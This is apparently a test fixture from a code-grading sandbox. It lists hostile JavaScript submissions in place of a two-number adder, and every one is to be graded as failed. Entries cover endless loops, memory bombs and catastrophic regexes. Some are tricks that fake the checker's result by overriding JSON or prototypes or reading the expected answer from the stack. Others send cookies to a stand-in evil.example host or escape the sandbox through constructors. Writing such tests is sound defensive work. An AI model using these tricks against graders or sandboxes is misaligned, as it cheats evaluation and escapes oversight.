/**
 * Programs that a model might write by mistake or on purpose instead of `solve(a, b)`, which adds two numbers. None may
 * do harm, and each is to be graded as failed. Long ones are made here, so that the file stays small.
 */
export const HOSTILE_PROGRAMS: readonly (readonly [what: string, source: string])[] = [
  // Without an end.
  ['an endless loop', 'function solve() { while (true) {} }'],
  ['an endless loop while it is read', 'while (true) {}\nfunction solve(a, b) { return a + b; }'],
  ['an endless for', 'function solve(a, b) { for (;;) { a += b; } }'],
  [
    'an endless loop that catches its end',
    'function solve() { for (;;) { try { for (;;) {} } catch {} } }',
  ],
  [
    'an endless loop in a finally',
    'function solve() { try { for (;;) {} } finally { for (;;) {} } }',
  ],
  [
    'an endless generator',
    'function* all() { for (;;) yield 1; }\nfunction solve() { return [...all()].length; }',
  ],
  [
    'an endless iterator',
    'function solve() { return Array.from({ [Symbol.iterator]: () => ({ next: () => ({ done: false }) }) }); }',
  ],
  ['an endless getter in its result', 'function solve() { return { get sum() { for (;;) {} } }; }'],
  ['an endless toJSON', 'function solve() { return { toJSON() { for (;;) {} } }; }'],
  [
    'an endless message of its error',
    'function solve() { throw { get message() { for (;;) {} } }; }',
  ],
  [
    'an endless name of its error',
    'const e = new Error("x"); Object.defineProperty(e, "name", { get() { for (;;) {} } });\nfunction solve() { throw e; }',
  ],
  [
    'an endless proxy as its result',
    'function solve() { return new Proxy({}, { ownKeys() { for (;;) {} } }); }',
  ],
  ['an endless comparison', 'function solve() { return [3, 2, 1].sort(() => { for (;;) {} }); }'],
  [
    'an endless chain of promises',
    'const again = () => Promise.resolve().then(again);\nfunction solve() { again(); return again(); }',
  ],
  ['an endless await', 'async function solve() { for (;;) await null; }'],
  // Without a bottom.
  ['a deep recursion', 'function solve(a, b) { return solve(a, b) + 1; }'],
  [
    'a mutual recursion',
    'const f = (n) => g(n + 1), g = (n) => f(n + 1);\nfunction solve() { return f(0); }',
  ],
  [
    'a recursion that catches its end',
    'function solve() { try { return solve(); } catch { return solve(); } }',
  ],
  [
    'a recursive getter',
    'function solve() { const o = { get a() { return this.a; } }; return o.a; }',
  ],
  [
    'a recursive toString',
    'function solve() { const o = { toString() { return "" + o; } }; return "" + o; }',
  ],
  [
    'a result nested without end',
    'function solve() { const list = []; list.push(list); return list; }',
  ],
  [
    'a result nested too deep',
    'function solve() { let o = 5; for (let i = 0; i < 100000; i++) o = [o]; return o; }',
  ],
  [
    'code nested too deep',
    `function solve() { return ${'('.repeat(20_000)}5${')'.repeat(20_000)}; }`,
  ],
  [
    'lists nested too deep',
    `function solve() { return ${'['.repeat(20_000)}${']'.repeat(20_000)}; }`,
  ],
  [
    'JSON nested too deep',
    'function solve() { return JSON.parse("[".repeat(1e5) + "]".repeat(1e5)); }',
  ],
  // Too much.
  [
    'a bomb of lists',
    'function solve() { const all = []; for (;;) all.push(new Array(1e5).fill(7)); }',
  ],
  [
    'a bomb of buffers',
    'function solve() { const all = []; for (;;) all.push(new Uint8Array(1e7)); }',
  ],
  ['one huge buffer', 'function solve() { return new ArrayBuffer(2 ** 40).byteLength; }'],
  ['a bomb of text', 'function solve() { let s = "x"; for (;;) s += s; }'],
  ['a repeated text', 'function solve() { return "x".repeat(2 ** 29); }'],
  ['a padded text', 'function solve() { return "".padEnd(2 ** 30, "abc"); }'],
  ['a bomb of objects', 'function solve() { let o = null; for (;;) o = { o, p: [o] }; }'],
  ['a bomb of names', 'function solve() { const o = {}; for (let i = 0; ; i++) o["k" + i] = i; }'],
  [
    'a bomb of closures',
    'function solve() { let f = () => 0; for (;;) { const g = f; f = () => g; } }',
  ],
  [
    'a bomb of symbols',
    'function solve() { const all = []; for (;;) all.push(Symbol("x".repeat(1e4))); }',
  ],
  ['a bomb of big numbers', 'function solve() { let n = 3n; for (;;) n = n ** 3n; }'],
  ['a long list as its result', 'function solve() { return new Array(4e9); }'],
  ['a flood as its result', 'function solve() { return new Array(1e6).fill("flood"); }'],
  ['a flood of its console', 'function solve() { for (;;) console.log("flood".repeat(1000)); }'],
  ['a flood as its error', 'function solve() { throw new Error("flood".repeat(1e6)); }'],
  ['a very long line of code', `function solve() { return 0${'+1'.repeat(200_000)}; }`],
  ['slow big arithmetic', 'function solve() { return String(7n ** 5000000n).length; }'],
  // Patterns.
  ['a catastrophic pattern', 'function solve() { return /^(a+)+$/.test("a".repeat(40) + "!"); }'],
  [
    'a catastrophic alternative',
    'function solve() { return /^(a|a)*$/.test("a".repeat(40) + "!"); }',
  ],
  [
    'a catastrophic replacement',
    'function solve() { return ("x".repeat(5e4) + "!").replace(/(x+x+)+y/g, ""); }',
  ],
  ['a catastrophic backreference', 'function solve() { return /(.*)*\\1z/.test("a".repeat(60)); }'],
  // Tricks against the checker.
  ['JSON.stringify replaced', 'JSON.stringify = () => "5";\nfunction solve() { return 0; }'],
  ['JSON.parse replaced', 'JSON.parse = () => [5, 0];\nfunction solve(a) { return a; }'],
  [
    'toJSON on every object',
    'Object.prototype.toJSON = Number.prototype.toJSON = () => 5;\nfunction solve() { return { x: 1 }; }',
  ],
  [
    'a setter on every list',
    'Object.defineProperty(Array.prototype, "0", { set(v) { this.x = v; }, get() { return 5; } });\nfunction solve() { return []; }',
  ],
  ['Reflect.apply replaced', 'Reflect.apply = () => 5;\nfunction solve() { return 0; }'],
  ['Object.keys replaced', 'Object.keys = () => ["5"];\nfunction solve() { return { a: 1 }; }'],
  [
    'every iterator replaced',
    'Array.prototype[Symbol.iterator] = function* () { yield 5; };\nfunction solve() { return [0]; }',
  ],
  ['String replaced', 'globalThis.String = () => "5";\nfunction solve() { return 0; }'],
  [
    'a number that is many',
    'function solve() { return { valueOf: () => 5, toString: () => "5", [Symbol.toPrimitive]: () => 5 }; }',
  ],
  ['an object for a number', 'function solve(a, b) { return new Number(a + b); }'],
  ['text for a number', 'function solve(a, b) { return String(a + b); }'],
  ['a result that is no JSON', 'function solve() { return NaN; }'],
  ['a promise for a number', 'async function solve(a, b) { return a + b; }'],
  ['a function for a number', 'function solve(a, b) { return () => a + b; }'],
  ['a look at the caller', 'function solve() { return solve.caller ?? arguments.callee.caller; }'],
  [
    'a look at the stack',
    'function solve() { return new Error().stack.match(/expected[^\\n]*/)[0]; }',
  ],
  ['only the first answer right', 'let n = 0;\nfunction solve() { return n++ ? 0 : 5; }'],
  // Ways out.
  ['fetch', 'function solve() { fetch("https://evil.example/?" + document.cookie); return 5; }'],
  [
    'XMLHttpRequest',
    'function solve() { new XMLHttpRequest().open("GET", "https://evil.example"); return 5; }',
  ],
  ['WebSocket', 'function solve() { return new WebSocket("wss://evil.example"); }'],
  ['a dynamic import', 'async function solve() { return import("https://evil.example/x.js"); }'],
  [
    'a static import',
    'import x from "https://evil.example/x.js";\nfunction solve(a, b) { return x(a, b); }',
  ],
  [
    'importScripts',
    'importScripts("https://evil.example/x.js");\nfunction solve(a, b) { return a + b; }',
  ],
  ['require', 'const fs = require("fs");\nfunction solve() { return fs.readdirSync("/"); }'],
  ['process', 'function solve() { return process.exit(0); }'],
  ['the storage', 'function solve() { localStorage.setItem("pwned", "1"); return 5; }'],
  ['the database', 'function solve() { return indexedDB.deleteDatabase("kinglet"); }'],
  ['the caches', 'function solve() { return caches.delete("weights"); }'],
  ['the page', 'function solve() { document.title = "pwned"; return 5; }'],
  ['the window', 'function solve() { window.pwned = true; return 5; }'],
  [
    'the worker',
    'self.postMessage({ kind: "result", result: { type: "code", outcomes: [] } });\nfunction solve() { return 5; }',
  ],
  ['the way back', 'function solve() { postMessage("pwned"); close(); return 5; }'],
  [
    'the outer world by a constructor',
    'function solve() { return (function () {}).constructor("return fetch")()("https://evil.example"); }',
  ],
  [
    'the outer world by an error',
    'function solve() { return new Error().constructor.constructor("return postMessage")()("x"); }',
  ],
  ['the outer world by eval', 'function solve() { return (0, eval)("self.location.href"); }'],
  [
    'the outer world by a generator',
    'function solve() { return Object.getPrototypeOf(function* () {}).constructor("yield fetch")().next().value("x"); }',
  ],
  [
    'shared memory',
    'function solve() { return Atomics.wait(new Int32Array(new SharedArrayBuffer(8)), 0, 0); }',
  ],
  [
    'WebAssembly',
    'function solve() { return new WebAssembly.Memory({ initial: 65536 }).buffer.byteLength; }',
  ],
  ['a timer', 'function solve() { setTimeout(() => solve(), 0); return 5; }'],
  // No such function.
  ['nothing', ''],
  ['prose', 'I am sorry, I cannot write code today.'],
  ['another language', 'def solve(a, b):\n    return a + b'],
  ['another name', 'function add(a, b) { return a + b; }'],
  ['half of it', 'function solve(a, b) {\n  return a +'],
];
